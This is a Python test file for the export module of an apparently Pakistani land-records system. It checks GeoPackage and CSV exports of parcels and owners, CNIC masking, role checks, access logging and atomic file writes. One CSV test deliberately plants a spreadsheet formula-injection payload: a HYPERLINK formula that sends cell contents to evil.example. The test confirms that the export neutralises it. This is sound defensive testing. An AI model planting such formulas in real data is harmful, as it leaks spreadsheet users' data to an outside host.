"""Exporting a mouza's parcels and owners on a date to a GeoPackage or CSV
(landgov.io.export): CNICs masked unless allowed and asked, every export logged, CSV
cells neutralised against formula injection."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
import shapely
from io_testdata import ASLAM, BUSHRA, OUTSIDER, TARIQ, World, owner_of, rect, to_file
from security_support import officer_actor, staff_actor
from sqlalchemy import text

from landgov.domain import mask_cnic
from landgov.errors import AccessDenied
from landgov.io import ExportReport, export_mouza, import_parcels
from landgov.storage import NotFound

ROWS = [
    {"khasra_no": "12", "land_class": "nehri", "area_kms": "4-7-3"},
    {"khasra_no": "13/1", "land_class": "chahi"},
    {"khasra_no": "45//7/2", "land_class": "barani", "unit_system": "urban"},
]


@pytest.fixture
def recorded(world: World, tmp_path: Path) -> World:
    """Three imported khasras; khewat 1 holds 12 and 13/1, khewat 2 holds 13/1 and 45//7/2.

    Khewat 1: Bushra Bibi 3/4 and Muhammad Aslam 1/4 since 2020. Khewat 2: the Irrigation
    Department 1/1 since settlement; Tariq Mehmood 1/2 mortgage with possession from
    2022-06-01.
    """
    path = to_file(tmp_path / "parcels.gpkg", ROWS, [rect(0), rect(1), rect(2)])
    import_parcels(world.engine, path, mouza="Kot Nau", actor=world.actor)
    with owner_of(world.engine).begin() as conn:
        ids = {n: i for n, i in conn.execute(text("SELECT number, id FROM khasra"))}
        k1, k2 = world.khewats[("Kot Nau", 1)], world.khewats[("Kot Nau", 2)]
        holdings = [(k1, "12", 786), (k1, "13/1", 400), (k2, "13/1", 312), (k2, "45//7/2", 861)]
        for khewat, number, sarsai in holdings:
            conn.execute(
                text(
                    "INSERT INTO khewat_khasra (khewat_id, khasra_id, mouza_id, area_sarsai,"
                    " valid_from) VALUES (:w, :k, :m, :a, '2020-01-01')"
                ),
                {"w": khewat, "k": ids[number], "m": world.mouza_id, "a": sarsai},
            )
        p = world.parties
        shares = [
            (k1, p[BUSHRA], 3, 4, "ownership", "2020-01-01"),
            (k1, p[ASLAM], 2, 8, "ownership", "2020-01-01"),  # stored unreduced
            (k2, p["irrigation"], 1, 1, "ownership", "1990-01-01"),
            (k2, p[TARIQ], 1, 2, "mortgage_with_possession", "2022-06-01"),
        ]
        for khewat, party, num, den, right, start in shares:
            conn.execute(
                text(
                    "INSERT INTO share (khewat_id, party_id, numerator, denominator,"
                    " right_type, valid_from) VALUES (:w, :p, :n, :d, :r, :f)"
                ),
                {"w": khewat, "p": party, "n": num, "d": den, "r": right, "f": start},
            )
    return world


KHEWAT_1 = "Bushra Bibi d/o Ghulam Rasool (3/4); Muhammad Aslam s/o Ghulam Rasool (1/4)"
KHEWAT_2 = (
    "Tariq Mehmood s/o Muhammad Aslam (1/2 mortgage with possession); Irrigation Department (1/1)"
)


def test_export_writes_both_layers(recorded: World, tmp_path: Path) -> None:
    out = tmp_path / "exports" / "kot_nau.gpkg"

    report = export_mouza(
        recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=recorded.actor
    )

    assert isinstance(report, ExportReport)
    assert report.counts == {"khasra": 3, "ownership": 8}
    assert report.summary().startswith(
        "kot_nau.gpkg: 3 khasras and 8 ownership rows of mouza Kot Nau (hadbast 117) "
        "as of 2024-01-01 exported in "
    )
    layers = {str(name): kind for name, kind in pyogrio.list_layers(out)}
    assert layers == {"khasra": "MultiPolygon", "ownership": None}

    khasra = pyogrio.read_dataframe(out, layer="khasra")
    assert khasra.crs.to_epsg() == 4326
    assert list(khasra.columns) == [
        "khasra_no",
        "land_class",
        "area_kms",
        "unit_system",
        "area_m2",
        "khewat_no",
        "owners",
        "geometry",
    ]
    by_no = khasra.set_index("khasra_no")
    assert list(by_no.index) == ["12", "13/1", "45//7/2"]
    assert list(by_no["area_kms"]) == ["4-7-3", "3-19-1", "4-15-6"]  # 786, 712, 861 sarsai
    assert list(by_no["unit_system"]) == ["standard", "standard", "urban"]
    assert list(by_no["khewat_no"]) == ["1", "1,2", "2"]
    assert by_no.loc["12", "owners"] == KHEWAT_1
    assert by_no.loc["13/1", "owners"] == f"khewat 1: {KHEWAT_1} | khewat 2: {KHEWAT_2}"
    assert by_no.loc["45//7/2", "owners"] == KHEWAT_2
    assert by_no["area_m2"].tolist() == pytest.approx([2000.0] * 3, rel=1e-6)
    with recorded.engine.connect() as conn:
        wkb = conn.execute(text("SELECT ST_AsBinary(geom) FROM khasra WHERE number = '12'"))
        stored = shapely.from_wkb(bytes(wkb.scalar_one()))
    assert shapely.equals_exact(by_no.loc["12", "geometry"], stored, tolerance=1e-12)

    ownership = pyogrio.read_dataframe(out, layer="ownership")
    ownership = ownership.astype(object).where(ownership.notna(), None)  # NaN -> None
    info = pyogrio.read_info(out, layer="ownership")
    assert dict(zip(info["fields"], info["ogr_types"], strict=True))["valid_from"] == "OFTDate"
    assert list(ownership.columns) == [
        "khasra_no",
        "khewat_no",
        "name",
        "guardian_relation",
        "guardian_name",
        "cnic",
        "custodian",
        "share",
        "right_type",
        "valid_from",
    ]
    rows = [
        (r.khasra_no, r.khewat_no, r.name, r.cnic, r.custodian, r.share, r.right_type)
        for r in ownership.itertuples()
    ]
    bushra, aslam, tariq = "35401-*******-2", "35401-*******-1", "35401-*******-3"  # masked
    assert rows == [
        ("12", 1, "Bushra Bibi", bushra, None, "3/4", "ownership"),
        ("12", 1, "Muhammad Aslam", aslam, None, "1/4", "ownership"),
        ("13/1", 1, "Bushra Bibi", bushra, None, "3/4", "ownership"),
        ("13/1", 1, "Muhammad Aslam", aslam, None, "1/4", "ownership"),
        ("13/1", 2, "Tariq Mehmood", tariq, None, "1/2", "mortgage_with_possession"),
        ("13/1", 2, "Irrigation Department", None, "irrigation", "1/1", "ownership"),
        ("45//7/2", 2, "Tariq Mehmood", tariq, None, "1/2", "mortgage_with_possession"),
        ("45//7/2", 2, "Irrigation Department", None, "irrigation", "1/1", "ownership"),
    ]
    aslam = ownership[ownership["name"] == "Muhammad Aslam"].iloc[0]
    assert (aslam["guardian_relation"], aslam["guardian_name"]) == ("son_of", "Ghulam Rasool")
    assert aslam["valid_from"] == pd.Timestamp("2020-01-01")


def test_export_is_as_of_its_date(recorded: World, tmp_path: Path) -> None:
    """Before the mortgage of 2022-06-01 only the owners appear."""
    out = tmp_path / "kot_nau_2021.gpkg"
    report = export_mouza(recorded.engine, "117", out, as_of=date(2021, 1, 1), actor=recorded.actor)
    assert report.counts == {"khasra": 3, "ownership": 6}
    khasra = pyogrio.read_dataframe(out, layer="khasra").set_index("khasra_no")
    assert khasra.loc["45//7/2", "owners"] == "Irrigation Department (1/1)"
    # before the khewats held anything (2020), parcels export without owners
    report = export_mouza(recorded.engine, "117", out, as_of=date(2019, 1, 1), actor=recorded.actor)
    assert report.counts == {"khasra": 3, "ownership": 0}
    khasra = pyogrio.read_dataframe(out, layer="khasra")
    assert khasra["owners"].tolist() == ["", "", ""]
    assert khasra["khewat_no"].isna().all()


def test_export_replaces_an_existing_file_whole(recorded: World, tmp_path: Path) -> None:
    out = tmp_path / "kot_nau.gpkg"
    out.write_bytes(b"an old export, or anything else")
    export_mouza(recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=recorded.actor)
    assert len(pyogrio.read_dataframe(out, layer="khasra")) == 3
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_failed_export_leaves_the_old_file_and_no_debris(
    recorded: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "kot_nau.gpkg"
    out.write_bytes(b"previous export")
    real_write = pyogrio.write_dataframe

    def failing_write(df: object, path: object, *, layer: str, **kwargs: object) -> None:
        if layer == "ownership":
            raise OSError("disk full")
        real_write(df, path, layer=layer, **kwargs)

    monkeypatch.setattr("landgov.io.export.pyogrio.write_dataframe", failing_write)
    with pytest.raises(OSError, match="disk full"):
        export_mouza(recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=recorded.actor)
    assert out.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kot_nau.gpkg", "parcels.gpkg"]
    assert access_rows(recorded) == []  # nothing left the database, nothing logged


def test_export_of_an_empty_mouza(world: World, tmp_path: Path) -> None:
    out = tmp_path / "jandiala.gpkg"
    report = export_mouza(world.engine, "Jandiala", out, as_of=date(2024, 1, 1), actor=world.actor)
    assert report.counts == {"khasra": 0, "ownership": 0}
    layers = {str(name): kind for name, kind in pyogrio.list_layers(out)}
    assert layers == {"khasra": "MultiPolygon", "ownership": None}


def test_export_of_an_unknown_mouza(world: World, tmp_path: Path) -> None:
    with pytest.raises(NotFound):
        export_mouza(
            world.engine, "Nowhere", tmp_path / "x.gpkg", as_of=date(2024, 1, 1), actor=world.actor
        )
    assert not (tmp_path / "x.gpkg").exists()


# --- personal data: masking, --unmasked, the access log -------------------------------------


def access_rows(world: World) -> list[dict[str, object]]:
    with world.engine.connect() as conn:
        rows = conn.execute(
            text(
                "SELECT actor, user_id, action, subject_kind, subject, details"
                " FROM access_log ORDER BY id"
            )
        )
        return [dict(r) for r in rows.mappings()]


def test_every_export_writes_an_access_row(recorded: World, tmp_path: Path) -> None:
    export_mouza(
        recorded.engine,
        "Kot Nau",
        tmp_path / "a.gpkg",
        as_of=date(2024, 1, 1),
        actor=recorded.actor,
    )
    export_mouza(
        recorded.engine,
        "117",
        tmp_path / "b.gpkg",
        as_of=date(2021, 1, 1),
        actor=recorded.actor,
        unmasked=True,
    )
    first, second = access_rows(recorded)
    actor = recorded.actor
    assert (first["actor"], first["user_id"], first["action"], first["subject_kind"]) == (
        actor.label,
        actor.user_id,
        "export",
        "export",
    )
    assert first["subject"] == str(recorded.mouza_id)
    assert first["details"] == {
        "mouza": "mouza Kot Nau (hadbast 117)",
        "as_of": "2024-01-01",
        "file": "a.gpkg",
        "format": "gpkg",
        "unmasked": False,
        "rows": 8,
        "khasras": 3,
    }
    assert (second["details"]["unmasked"], second["details"]["rows"]) == (True, 6)


def test_unmasked_export_by_an_officer_posted_there(recorded: World, tmp_path: Path) -> None:
    out = tmp_path / "full.gpkg"
    export_mouza(
        recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=recorded.actor, unmasked=True
    )
    cnics = set(pyogrio.read_dataframe(out, layer="ownership")["cnic"].dropna())
    assert cnics == {ASLAM, BUSHRA, TARIQ}


def test_unmasked_is_refused_to_an_analyst_and_an_officer_elsewhere(
    recorded: World, tmp_path: Path
) -> None:
    """A revenue analyst reads owners with CNICs masked, never in full; an officer of
    another tehsil sees them in full only where posted."""
    analyst = staff_actor(recorded.engine, "revenue_analyst")
    outsider = officer_actor(recorded.engine, OUTSIDER)
    for who in (analyst, outsider):
        out = tmp_path / f"{who.username}.gpkg"
        with pytest.raises(AccessDenied) as exc:
            export_mouza(
                recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=who, unmasked=True
            )
        assert exc.value.rule == "unmask"
        assert "may not export CNICs in full for mouza Kot Nau (hadbast 117)" in str(exc.value)
        assert not out.exists()
        # masked, the same export is allowed and logged
        export_mouza(recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=who)
        cnics = set(pyogrio.read_dataframe(out, layer="ownership")["cnic"].dropna())
        assert cnics == {mask_cnic(ASLAM), mask_cnic(BUSHRA), mask_cnic(TARIQ)}
    assert [(r["actor"], r["details"]["unmasked"]) for r in access_rows(recorded)] == [
        (analyst.label, False),
        (outsider.label, False),
    ]


def test_export_needs_a_role_that_reads_personal_data(recorded: World, tmp_path: Path) -> None:
    admin = staff_actor(recorded.engine, "administrator")
    out = tmp_path / "x.gpkg"
    with pytest.raises(AccessDenied) as exc:
        export_mouza(recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=admin)
    assert exc.value.rule == "role"
    assert not out.exists()
    assert access_rows(recorded) == []


# --- CSV: the owners as a spreadsheet reads them, formula-proof ---------------------------------


def test_csv_export_is_masked_and_neutralised(recorded: World, tmp_path: Path) -> None:
    """An owner's name or guardian planted as a formula comes out as text in a
    spreadsheet; numbers stay numbers."""
    with owner_of(recorded.engine).begin() as conn:
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Aslam")'
        conn.execute(
            text("UPDATE party SET name = :n, guardian_name = :g WHERE cnic = :c"),
            {"n": formula, "g": "@SUM(A1:A9)", "c": ASLAM},
        )
    out = tmp_path / "owners.csv"
    report = export_mouza(
        recorded.engine, "Kot Nau", out, as_of=date(2024, 1, 1), actor=recorded.actor
    )
    assert report.counts == {"ownership": 8}
    assert report.summary().startswith("owners.csv: 8 ownership rows of mouza Kot Nau")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheets then read UTF-8
    frame = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(frame.columns) == [
        "khasra_no",
        "khewat_no",
        "name",
        "guardian_relation",
        "guardian_name",
        "cnic",
        "custodian",
        "share",
        "right_type",
        "valid_from",
    ]
    aslam = frame[frame["cnic"] == mask_cnic(ASLAM)].iloc[0]
    assert aslam["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Aslam")'
    assert aslam["guardian_name"] == "'@SUM(A1:A9)"
    assert aslam["khewat_no"] == "1" and aslam["valid_from"] == "2020-01-01"
    assert set(frame["cnic"]) == {mask_cnic(ASLAM), mask_cnic(BUSHRA), mask_cnic(TARIQ), ""}
    # no cell a spreadsheet would evaluate
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in frame.to_numpy().ravel())
    assert access_rows(recorded)[-1]["details"]["format"] == "csv"
